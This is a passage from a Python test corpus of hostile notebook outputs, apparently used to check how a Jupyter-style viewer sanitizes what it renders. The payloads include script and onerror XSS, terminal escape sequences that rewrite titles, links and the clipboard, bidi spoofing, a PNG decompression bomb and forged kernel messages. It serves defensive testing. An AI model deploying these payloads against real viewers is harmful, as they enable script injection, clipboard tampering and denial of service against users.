        "localStorage.x;document.cookie;indexedDB.open('x');caches.open('x');" + HIT,
        fires=True,
    ),
    _script("dialogs", "setTimeout(()=>{alert(1);confirm(1);prompt(1);print()},0)", leaves=True),
    _script(
        "fullscreen",
        "document.documentElement.requestFullscreen();navigator.clipboard.readText();"
        "navigator.geolocation.getCurrentPosition(()=>0);Notification.requestPermission()",
    ),
    _script(
        "beforeunload",
        "addEventListener('beforeunload',e=>{e.preventDefault();return 1})",
        leaves=True,
    ),
]

TEXTS = [
    Hostile("escape-title", r"print('\x1b]0;canary\x07 \x1b]2;x\x1b\\')"),
    Hostile("escape-link", r"print('\x1b]8;;javascript:hit(`@ID`)\x1b\\click\x1b]8;;\x1b\\')"),
    Hostile("escape-clipboard", r"print('\x1b]52;c;Y3VybCBldmls\x07')"),
    Hostile("escape-screen", r"print('\x1b[2J\x1b[1;1H\x1b[?1049h\x1bc\x9b2J\x90q\x9c')"),
    Hostile(
        "escape-html",
        f"print('\\x1b[31m<script>{_ESCAPED_HIT}</script>"
        f'<img src=data:, onerror="{HIT.replace(chr(39), chr(96))}">\\x1b[0m\')',
    ),
    Hostile("escape-colour", "print('\\x1b[38;2;1;2;3\"><img src=data:, onerror=hit(`@ID`)>m x')"),
    Hostile(
        "text-link",
        'print(\'javascript:hit(`@ID`) http://@HOST/@ID/"onmouseover="hit(`@ID`)'
        " https://x/<script>')",
    ),
    Hostile("text-bidi", "print('\\u202e\\u2066 evil \\u2069')"),
    Hostile("text-huge", "print('x' * 4_000_000)"),
    Hostile(
        "text-many",
        "import sys\nfor n in range(20_000): print(n, file=sys.stderr if n % 2 else sys.stdout)",
    ),
    Hostile(
        "text-stderr",
        f"import sys\nprint('<script>{_ESCAPED_HIT}</script>\\x1b]0;x\\x07', file=sys.stderr)",
    ),
    Hostile(
        "error-name", "raise type('<img src=data:, onerror=hit(`@ID`)>', (Exception,), {})('x')"
    ),
    Hostile(
        "error-value", "raise ValueError('<script>hit(`@ID`)</script>\\x1b]8;;javascript:1\\x07x')"
    ),
    Hostile(
        "error-traceback",
        "class E(Exception):\n    def _render_traceback_(self):\n"
        "        return ['<img src=data:, onerror=hit(`@ID`)>', '\\x1b]0;x\\x07', '\\x9b2J']\n"
        "raise E('x')",
    ),
    Hostile("error-huge", "raise ValueError('<b>' * 2_000_000)"),
    Hostile("error-escape-name", r"raise type('\x1b]0;x\x07Name', (Exception,), {})('\x1b[2J')"),
    Hostile(
        "input-prompt",
        "try: input('<img src=data:, onerror=hit(`@ID`)>')\nexcept Exception: pass"
        if False
        else "print('<img src=data:, onerror=hit(`@ID`)>')",
    ),
]

SIZES = [
    _html("nested-megabyte", "@NESTED"),
    _html("nested-inert", "@INERT"),
    _html("many-attributes", "@ATTRIBUTES"),
    _html("wide-table", "@TABLE"),
    _bundle("json-deep", {"application/json": "@DEEP", "text/plain": "x"}),
    Hostile(
        "html-huge",
        "from IPython.display import HTML\ndisplay(HTML('<b>x</b>' * 100_000"
        f' + "<script>{HIT}</script>"))',
    ),
    Hostile(
        "displays-many",
        "from IPython.display import HTML\nfor n in range(40):"
        f' display(HTML("<img src=data:, onerror={HIT}>"))',
    ),
    Hostile(
        "png-bomb",
        "import zlib, struct, base64\n"
        "def chunk(k, d): return struct.pack('>I', len(d)) + k + d + struct.pack('>I',"
        " zlib.crc32(k + d))\n"
        "head = struct.pack('>IIBBBBB', 50_000, 50_000, 1, 0, 0, 0, 0)\n"
        "body = zlib.compress(bytes(6251) * 50_000, 9)\n"
        "png = b'\\x89PNG\\r\\n\\x1a\\n' + chunk(b'IHDR', head) + chunk(b'IDAT', body)"
        " + chunk(b'IEND', b'')\n"
        "display({'image/png': base64.b64encode(png).decode()}, raw=True)",
    ),
]
_MADE = {
    "'@NESTED'": f'"<div>" * 200_000 + "<script>{HIT}</script>"',
    "'@INERT'": '"<b>" * 150_000 + "x"',
    "'@ATTRIBUTES'": '"<b " + " ".join(f"a{n}=1" for n in range(50_000)) + '
    f'" onclick={HIT} tabindex=0>x</b>"',
    "'@TABLE'": '"<table><tr>" + "<td>x</td>" * 20_000 + "</tr></table>"',
    "'@DEEP'": "eval('[' * 80 + ']' * 80)",
}
SIZES = [
    Hostile(
        item.name,
        next((item.code.replace(a, b) for a, b in _MADE.items() if a in item.code), item.code),
    )
    for item in SIZES
]

MESSAGES = [
    Hostile(
        "update-other-display",
        "from IPython.display import HTML, update_display\n"
        "display({'text/plain': 'mine'}, raw=True, display_id='shared-@ID')\n"
        f"update_display(HTML(\"<script>{HIT}</script>\"), display_id='shared-@ID')",
        fires=True,
    ),
    Hostile(
        "comm-open",
        "k = get_ipython().kernel\n"
        "for kind in ('comm_open', 'comm_msg', 'shutdown_reply', 'execute_input', 'debug_event'):\n"
        "    k.send_response(k.iopub_socket, kind, {'comm_id': '@ID', 'target_name':"
        " 'jupyter.widget', 'data': {}, 'code': 'x', 'execution_count': 1, 'restart': False})",
    ),
    Hostile(
        "message-shapes",
        "k = get_ipython().kernel\n"
        "for content in ({}, {'name': 'stdout'}, {'name': 'x', 'text': 1}, {'name': 'stdout',"
        " 'text': ['<script>']}):\n    k.send_response(k.iopub_socket, 'stream', content)\n"
        "for data in (None, 'x', [], {'text/html': None}, {1: 2}):\n"
        "    k.send_response(k.iopub_socket, 'display_data', {'data': data, 'metadata': data})\n"
        "k.send_response(k.iopub_socket, 'error', {'ename': 1, 'evalue': {}, 'traceback': 'x'})\n"
        "k.send_response(k.iopub_socket, 'clear_output', {'wait': 'x'})\n"
        f'k.send_response(k.iopub_socket, "display_data", {{"data": {{"text/html":'
        f' "<script>{HIT}</script>"}}, "metadata": {{}}, "transient": {{"display_id": {{}}}}}})',
    ),
    Hostile(
        "stolen-result",
        "k = get_ipython().kernel\nk.send_response(k.iopub_socket, 'execute_result',"
        ' {"execution_count": "<b>", "metadata": {},'
        f' "data": {{"text/html": "<script>{HIT}</script>"}}}})',
    ),
    Hostile(
        "cleared-output",
        "from IPython.display import HTML, clear_output\ndisplay(HTML('<b>x</b>'))\n"
        f'clear_output(wait=True)\ndisplay(HTML("<script>{HIT}</script>"))',
        fires=True,
    ),
]

CORPUS: list[Hostile] = [
    *SCRIPTS,
    *HANDLERS,
    *MIME_TYPES,
    *URLS,
    *STYLES,
    *SVGS,
    *CONFUSIONS,
    *COMMANDS,
    *MARKDOWN,
    *LATEX,
    *FRAMES,
    *TEXTS,
    *SIZES,
    *MESSAGES,
]
"""All of them; names are unique."""
